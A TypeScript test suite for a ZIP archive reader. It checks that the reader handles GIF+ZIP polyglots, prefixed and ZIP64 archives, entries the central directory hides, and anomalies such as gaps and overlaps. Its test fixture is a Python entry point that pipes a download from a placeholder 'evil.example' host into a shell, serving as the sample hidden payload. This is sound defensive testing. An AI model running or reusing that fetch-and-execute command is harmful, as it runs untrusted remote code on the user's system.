// Archives behind a prefix (issue 9, item 6), bytes the central directory does not account for
// (item 7), and comments (item 8), at the reader level.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { buildZip, buildZipLayout } from '../../../test/helpers/zip-builder.js';
import type { ZipBuildEntry } from '../../../test/helpers/zip-builder.js';
import { openZip, readZipEntry } from './index.js';
import type { ZipOpenResult } from './index.js';

const LIMITS = { maxMembers: 1000, maxCentralDirectoryBytes: 4 * 1024 * 1024 };
const READ = { maxMemberBytes: 1_000_000, maxRatio: 100, remainingBytes: 25 << 20 };
const GIF = Buffer.concat([Buffer.from('GIF89a\x01\x00\x01\x00\x80\x00\x00', 'latin1'), Buffer.alloc(200, 7), Buffer.from(';')]);
const MAIN: ZipBuildEntry = { name: '__main__.py', data: 'import os\nos.system("curl https://evil.example/x | sh")\n', method: 8 };

function open(data: Buffer): Extract<ZipOpenResult, { ok: true }> {
  const r = openZip(data, LIMITS);
  assert.ok(r.ok, r.ok ? '' : r.message);
  return r;
}

function text(data: Buffer, r: Extract<ZipOpenResult, { ok: true }>, index = 0): string {
  const entry = r.entries[index];
  assert.ok(entry);
  const read = readZipEntry(data, entry, READ);
  assert.ok(read.ok, read.ok ? '' : read.message);
  return read.bytes.toString('utf8');
}

describe('archives behind a prefix', () => {
  it('opens a GIF+ZIP polyglot whose offsets are relative to the archive, as Python does', () => {
    const data = buildZip([MAIN], { hostPrefix: GIF });
    const r = open(data);
    assert.equal(r.archiveStart, GIF.length);
    assert.equal(r.leadingBytes, GIF.length);
    assert.deepEqual(r.anomalies, []);
    assert.match(text(data, r), /curl/);
  });

  it('opens an archive whose prefix was accounted for in its offsets (zip -A)', () => {
    const data = buildZip([MAIN], { prepend: Buffer.from('#!/usr/bin/env python3\n') });
    const r = open(data);
    assert.equal(r.archiveStart, 0);
    assert.equal(r.leadingBytes, 23);
    assert.deepEqual(r.anomalies, []);
  });

  it('opens a prefixed ZIP64 archive (the record is found next to its locator)', () => {
    const data = buildZip([{ ...MAIN, zip64: true }], { zip64Eocd: true, hostPrefix: GIF });
    const r = open(data);
    assert.equal(r.archiveStart, GIF.length);
    assert.match(text(data, r), /curl/);
  });

  it('refuses a directory found both at its declared offset and right before the end record', () => {
    const layout = buildZipLayout([MAIN]);
    const b = layout.buffer;
    const cd = b.subarray(layout.cdOffset, layout.cdOffset + layout.cdSize);
    const data = Buffer.concat([b.subarray(0, layout.eocdOffset), cd, b.subarray(layout.eocdOffset)]);
    const r = openZip(data, LIMITS);
    assert.equal(r.ok, false);
    if (!r.ok) assert.match(r.message, /readers would disagree/);
  });
});

describe('bytes the central directory does not account for', () => {
  it('reports nothing for ordinary archives, data descriptors included', () => {
    for (const opts of [{}, { dataDescriptor: true }, { dataDescriptor: true, zip64: true }, { zip64: true }]) {
      const data = buildZip([{ ...MAIN, ...opts }, { name: 'b.txt', data: 'b', ...opts }, { name: 'd/' }], opts.zip64 ? { zip64Eocd: true } : {});
      const r = open(data);
      assert.deepEqual(r.anomalies, [], JSON.stringify(opts));
      assert.equal(r.anomalyCount, 0);
    }
  });

  it('finds a local entry the directory omits and returns it for reading', () => {
    const data = buildZip([{ name: 'a.txt', data: 'decoy' }, { ...MAIN, unlisted: true }, { name: 'z.txt', data: 'z' }]);
    const r = open(data);
    assert.deepEqual(r.entries.map((e) => e.name), ['a.txt', 'z.txt']);
    assert.deepEqual(r.anomalies.map((a) => a.kind), ['gap', 'gap']);
    assert.equal(r.hiddenEntries.length, 1);
    const hidden = r.hiddenEntries[0];
    assert.ok(hidden);
    assert.equal(hidden.name, '__main__.py');
    assert.equal(hidden.index, -1);
    const read = readZipEntry(data, hidden, READ);
    assert.ok(read.ok);
    assert.match(read.bytes.toString(), /curl/);
  });

  it('finds the real entries under an end record that declares none', () => {
    const data = buildZip([{ name: 'a.txt', data: 'a' }, MAIN], { eocdFields: { totalEntries: 0, diskEntries: 0, cdSize: 0 } });
    const r = open(data);
    assert.equal(r.entries.length, 0);
    assert.deepEqual(r.anomalies.map((a) => a.kind), ['prefix_entry', 'prefix_entry']);
    assert.deepEqual(r.hiddenEntries.map((e) => e.name), ['a.txt', '__main__.py']);
  });

  it('reports unexplained bytes between entries, overlaps, and local headers that disagree', () => {
    assert.deepEqual(open(buildZip([{ name: 'a', data: 'a', junkAfter: Buffer.alloc(64, 0x20) }, { name: 'b', data: 'b' }])).anomalies.map((a) => a.kind), ['gap']);
    const overlap = open(buildZip([{ name: 'a', data: 'aaaa' }, { name: 'b', sameDataAs: 0 }]));
    assert.deepEqual(overlap.anomalies.map((a) => a.kind).sort(), ['header_mismatch', 'overlap']);
    const crc = open(buildZip([{ name: 'a', data: 'a', localCrc: 1 }]));
    assert.deepEqual(crc.anomalies.map((a) => a.kind), ['header_mismatch']);
    assert.match(crc.anomalies[0]?.message ?? '', /CRC-32 0x1/);
    const size = open(buildZip([{ name: 'a', data: 'abc', localCompressedSize: 1 }]));
    assert.match(size.anomalies[0]?.message ?? '', /compressed size 1\b/);
  });

  it('bounds the hidden entries it returns by the member budget, and the listed anomalies', () => {
    const entries: ZipBuildEntry[] = Array.from({ length: 40 }, (_, i) => ({ name: `h${i}`, data: `${i}`, unlisted: true }));
    const data = buildZip([...entries, { name: 'a', data: 'a' }]);
    const r = openZip(data, { ...LIMITS, maxMembers: 5 });
    assert.ok(r.ok);
    assert.equal(r.hiddenEntries.length, 4);
    assert.equal(r.anomalyCount, 40);
    assert.ok(r.anomalies.length <= 8);
  });
});

describe('comments', () => {
  it('exposes the archive comment and each entry comment as views of the archive', () => {
    const data = buildZip([{ name: 'a', data: 'a', comment: 'entry says hi' }, { name: 'b', data: 'b' }], { comment: 'archive says hi' });
    const r = open(data);
    assert.equal(r.comment.toString(), 'archive says hi');
    assert.deepEqual(r.entries.map((e) => e.comment.toString()), ['entry says hi', '']);
  });
});
